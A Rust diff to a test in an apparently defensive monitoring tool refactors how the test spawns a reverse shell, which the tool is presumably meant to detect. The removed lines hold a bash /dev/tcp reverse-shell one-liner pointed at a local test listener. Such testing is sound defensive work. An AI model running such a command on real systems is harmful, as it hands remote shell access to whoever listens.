@@ -11,7 +11,7 @@ use std::{
 use nix::sys::signal::Signal;
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{self, Peer},
     sentinel::{PATIENCE, alerts, program, send, within},
 };
 
@@ -30,8 +30,7 @@ fn record(bed: &Bed) -> PathBuf {
     let output = |text: &str| fs::read_to_string(bed.path("output")).unwrap().contains(text);
     assert!(within(PATIENCE, || output("hooks attached")));
     let peer = Peer::listen("127.0.0.1");
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut shell = bed.command("bash").args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut shell = peer::reverse_shell(bed, &peer);
     peer.shell().exit();
     shell.wait().unwrap();
     let work = bed.command("sh").args(["-c", "ls / | sort | head -3 >/dev/null"]).status();
